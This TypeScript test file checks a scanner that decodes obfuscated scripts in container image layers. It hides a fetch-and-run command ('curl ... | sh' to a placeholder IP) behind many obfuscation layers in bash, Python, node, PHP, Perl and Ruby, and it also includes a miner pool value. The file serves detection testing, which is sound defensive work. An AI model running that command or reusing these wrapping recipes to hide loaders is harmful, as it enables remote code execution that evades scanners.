import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  base32,
  base64,
  hex,
  hexEscapes,
  numbers,
  octalEscapes,
  opensslEnc,
  pieces,
  pythonOnion,
  reversed,
  rot13,
  uuencode,
  xor,
} from '../../../../testkit/coded.ts';
import { piped } from '../../../../testkit/packed.ts';
import { DEFAULT_LIMITS } from '../../../base/limits.ts';
import type { Content } from '../../../image/layer-facts.ts';
import type { TextUnit } from '../text-unit.ts';
import { unitsOf } from '../units.ts';

const COMMAND = 'curl -s http://203.0.113.9/x | sh';

function script(text: string, interpreter: string): [string, Content, string] {
  return ['opt/run', { kind: 'script', interpreter, encoding: 'utf-8' }, `#!${interpreter}\n${text}\n`];
}

/** Whether a command of the text, or of what it carries, is the hidden one. */
function finds(units: readonly TextUnit[]): boolean {
  return units.some(({ commands }) =>
    commands.some((pipeline) => pipeline.commands.some(({ name }) => name === 'curl')),
  );
}

const ARRAY = pieces(COMMAND, 8).map((piece) => `'${piece}'`);

describe('a shell script', () => {
  it.each([
    ['base64', `echo ${base64(COMMAND)} | base64 -d | sh`],
    ['base64 from a here-document', `base64 -d <<EOF | sh\n${pieces(base64(COMMAND), 20).join('\n')}\nEOF`],
    ['base64 and xz', `echo ${base64(piped('xz', COMMAND))} | base64 -d | xz -d | sh`],
    ['base64 and bzip2', `echo ${base64(piped('bzip2', COMMAND))} | base64 -d | bunzip2 | sh`],
    ['base64 and gzip', `echo ${base64(gzipSync(COMMAND))} | base64 -d | gunzip | sh`],
    ['base64 and zstd', `echo ${base64(zstdCompressSync(COMMAND))} | base64 -d | zstd -dc | sh`],
    ['base32', `echo ${base32(COMMAND)} | base32 -d | sh`],
    ['basenc', `echo ${base64(COMMAND)} | basenc --base64 -d | sh`],
    ['hex', `echo ${hex(COMMAND)} | xxd -r -p | sh`],
    ['octal escapes', `printf '${octalEscapes(COMMAND)}' | sh`],
    ['ANSI-C quoting', `eval $'${hexEscapes(COMMAND)}'`],
    ['rev', `echo '${reversed(base64(COMMAND))}' | rev | base64 -d | sh`],
    ['tr', `echo '${rot13(COMMAND)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`],
    ['uudecode', `uudecode -o - <<'E' | sh\nbegin 644 -\n${uuencode(COMMAND)}\`\nend\nE`],
    ['openssl enc', `echo '${opensslEnc(COMMAND, 'p')}' | openssl enc -aes-256-cbc -d -a -A -k p | sh`],
    [
      'openssl with PBKDF2',
      `echo ${opensslEnc(COMMAND, 'p', 1000)} | openssl aes-256-cbc -d -a -A -iter 1000 -pass pass:p | sh`,
    ],
    ['twice', `echo ${base64(base64(COMMAND))} | base64 -d | base64 -d | sh`],
    ['a variable', `A=$(echo ${base64(COMMAND)} | base64 -d); eval "$A"`],
    ['its own text', `sed '1,/^__X__$/d' "$0" | base64 -d | sh; exit\n__X__\n${base64(COMMAND)}`],
    ['its own text from a line on', `tail -n +4 "$0" | base64 -d | sh\nexit\n${base64(COMMAND)}`],
    ['a Python filter', `echo ${base64(COMMAND)} | python3 -c 'import sys,base64' | sh`],
    ['an array', `p=(${ARRAY.join(' ')}); eval "\${p[0]}\${p[1]}\${p[2]}\${p[3]}\${p[4]}"`],
    ['an indirect name', `x=curl; c=x; \${!c} -s http://203.0.113.9/x | sh`],
    ['set --', 'set -- cu rl; $1$2 -s http://203.0.113.9/x | sh'],
    ['a slice', `x=xcurly; \${x:1:4} -s http://203.0.113.9/x | sh`],
    ['lower case', `x=CURL; \${x,,} -s http://203.0.113.9/x | sh`],
    ['a cut end', `x=curlZZ; \${x%ZZ} -s http://203.0.113.9/x | sh`],
    ['printf -v', `printf -v c '%s%s' cu rl; $c -s http://203.0.113.9/x | sh`],
    ['read', 'read -r c <<< curl; $c -s http://203.0.113.9/x | sh'],
    ['braces', '{curl,-s,http://203.0.113.9/x} | sh'],
  ])('hides a command by %s', (_name, text) => {
    expect(finds(unitsOf(...script(text, '/bin/bash')))).toBe(true);
  });
});

const PYTHON = `import os\nos.system("${COMMAND}")\n`;
const NODE = `require("child_process").execSync("${COMMAND}")`;
const PHP = `system("${COMMAND}");`;

describe('a Python program', () => {
  it.each([
    ['zlib', `exec(zlib.decompress(base64.b64decode('${base64(deflateSync(PYTHON))}')))`],
    ['base32', `exec(base64.b32decode('${base32(PYTHON)}'))`],
    ['hex', `exec(bytes.fromhex('${hex(PYTHON)}'))`],
    ['rot13', `exec(base64.b64decode(codecs.decode('${rot13(base64(PYTHON))}', 'rot13')))`],
    ['slices that turn round', `exec(base64.b64decode('${reversed(base64(PYTHON))}'[::-1]))`],
    ['sixty layers', pythonOnion(PYTHON, 60)],
    ['chr()', `exec(${numbers(PYTHON, (byte) => `chr(${byte})`, '+')})`],
    ['a list of codes', `exec(''.join(map(chr, (${numbers(PYTHON, String, ', ')}))))`],
    ['unicode escapes', `exec("${numbers(PYTHON, (byte) => `\\u00${byte.toString(16).padStart(2, '0')}`)}")`],
    [
      'xor with a number',
      `d=base64.b64decode('${base64(xor(PYTHON, 'Z'))}')\nexec(bytes(b ^ 0x5a for b in d))`,
    ],
    [
      'xor with a key',
      `exec(bytes(a ^ b for a, b in zip(bytes.fromhex('${hex(xor(PYTHON, 'sEcr3t'))}'), cycle(b'sEcr3t'))))`,
    ],
    ['literals over lines', `exec(base64.b64decode(\n${lines(base64(PYTHON), (piece) => ` '${piece}'`)}\n))`],
    ['+=', `x=''\n${lines(base64(PYTHON), (piece) => `x += '${piece}'`)}\nexec(base64.b64decode(x))`],
    ['join', `exec(base64.b64decode(''.join([${lines(base64(PYTHON), (piece) => `'${piece}',`)}])))`],
    [
      'a sum of names',
      `a='${base64(PYTHON).slice(0, 21)}'\nb='${base64(PYTHON).slice(21)}'\nexec(b64decode(a+b))`,
    ],
    [
      'lines in one string',
      `exec(base64.b64decode("""\n${lines(base64(deflateSync(PYTHON)), String)}\n"""))`,
    ],
    ['shifted characters', `exec(''.join(chr(ord(c)-1) for c in '${shifted(`os.system("${COMMAND}")`)}'))`],
    ['a shell command in code', `os.system(base64.b64decode('${base64(COMMAND)}').decode())`],
  ])('hides a command by %s', (_name, text) => {
    expect(finds(unitsOf(...script(text, '/usr/bin/env python3')))).toBe(true);
  });
});

function lines(text: string, form: (piece: string) => string): string {
  return pieces(text, 21).map(form).join('\n');
}

function shifted(text: string): string {
  return numbers(text, (byte) => String.fromCharCode(byte + 1));
}

describe('programs in other languages', () => {
  it.each([
    ['node', 'atob', `eval(atob('${base64(NODE)}'))`],
    ['node', 'character codes', `eval(String.fromCharCode(${numbers(NODE, String, ',')}))`],
    [
      'node',
      'raw deflate',
      `eval(zlib.inflateRawSync(Buffer.from('${base64(deflateRawSync(NODE))}','base64'))+'')`,
    ],
    [
      'node',
      'brotli',
      `eval(zlib.brotliDecompressSync(Buffer.from('${base64(brotliCompressSync(NODE))}','base64'))+'')`,
    ],
    ['node', 'percent escapes', `eval(unescape('${numbers(NODE, (byte) => `%${byte.toString(16)}`)}'))`],
    ['php', 'gzinflate', `<?php eval(gzinflate(base64_decode('${base64(deflateRawSync(PHP))}')));`],
    [
      'php',
      'rot13 between the two',
      `<?php eval(gzinflate(str_rot13(base64_decode('${base64(Buffer.from(rot13(deflateRawSync(PHP).toString('latin1')), 'latin1'))}'))));`,
    ],
    ['php', 'chr and dots', `<?php eval(${numbers(PHP, (byte) => `chr(${byte})`, '.')});`],
    [
      'php',
      '.=',
      `<?php $a='${base64(PHP).slice(0, 18)}';\n$a.='${base64(PHP).slice(18)}';\neval(base64_decode($a));`,
    ],
    ['perl', 'pack', `eval(pack("H*","${hex(PHP)}"));`],
    ['perl', 'uuencode', `eval(unpack("u",'${uuencode(PHP).trim().replaceAll(/['\\]/g, '\\$&')}'));`],
    ['perl', 'xor', `my $d = pack("H*","${hex(xor(PHP, '*'))}"); eval($d ^ ("\\x2a" x length $d));`],
    ['ruby', 'unpack', `eval("${base64(PHP)}".unpack1("m"))`],
    ['ruby', 'zlib', `eval(Zlib::Inflate.inflate(Base64.decode64('${base64(deflateSync(PHP))}')))`],
  ])('%s hides a command by %s', (interpreter, _name, text) => {
    expect(finds(unitsOf(...script(text, `/usr/bin/env ${interpreter}`)))).toBe(true);
  });
});

describe('decoding', () => {
  it('tells each step, and the line that it began on', () => {
    const units = unitsOf(
      ...script(`import os\nexec(b64decode('${base64(gzipSync(PYTHON))}'))`, '/usr/bin/python3'),
    );
    expect(units[1]).toMatchObject({ via: 'base64, gzip', line: 3, language: 'python', text: PYTHON });
  });

  it('puts values where they stood, so that they are read together', () => {
    const text = `pool = base64.b64decode("${base64('pool.example:3333')}").decode()\nuser = b64decode('${base64('somebody.worker1')}')`;
    const [, shown] = unitsOf(...script(text, '/usr/bin/python3'));
    expect(shown?.text).toContain('pool = "pool.example:3333"\nuser = \'somebody.worker1\'');
    expect(shown?.via).toBe('base64');
  });

  it('shows an ELF program in code as one', () => {
    const program = Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(100)]);
    const units = unitsOf(...script(`echo ${base64(program)} | base64 -d > /tmp/x`, '/bin/sh'));
    expect(units).toContainEqual(expect.objectContaining({ program: true, line: 2, via: 'base64' }));
  });

  it.each([
    ['maxDecodeDepth', pythonOnion(PYTHON, 12), { maxDecodeDepth: 10 }],
    [
      'maxDecodedBytes',
      `exec(b64decode('${base64(deflateSync(`#${' '.repeat(90_000)}`))}'))`,
      { maxDecodedBytes: 50_000 },
    ],
    [
      'maxCarriedTexts',
      [1, 2, 3].map((n) => `exec(b64decode('${base64(`${PYTHON}# ${n}`)}'))`).join('\n'),
      { maxCarriedTexts: 2 },
    ],
  ])('stops at %s and says so', (limit, text, limits) => {
    const options = { limits: { ...DEFAULT_LIMITS, ...limits } };
    expect(unitsOf(...script(text, '/usr/bin/python3'), options)[0]?.cut).toBe(limit);
    expect(unitsOf(...script(text, '/usr/bin/python3'))[0]?.cut).toBeUndefined();
  });

  it('does not take what a wrong key gives for text', () => {
    const garble = 'k = 3 ^ 1\nnames = ["\\x01", "ServiceAccountNames", "projectsLocationsChannels"]\n';
    expect(unitsOf(...script(garble, '/usr/bin/python3'))).toHaveLength(1);
  });

  it('does not take plain words for words under a key', () => {
    const text =
      'k = 3 ^ 1\nkeys = ["\\x01", " ", "ab"]\nhelp = "curl -s http://203.0.113.9/x | sh is what others do"\n';
    expect(unitsOf(...script(text, '/usr/bin/python3'))).toHaveLength(1);
  });

  it('does not work for ever on a text made to be decoded', () => {
    const text = `x ^ y; [::-1] rot13 inflate b32 b85\n${'A'.repeat(200_000)}\n${"'a' + ".repeat(40_000)}\n${'ab.'.repeat(50_000)}`;
    expect(unitsOf(...script(text, '/usr/bin/python3')).length).toBeLessThan(400);
  });
});
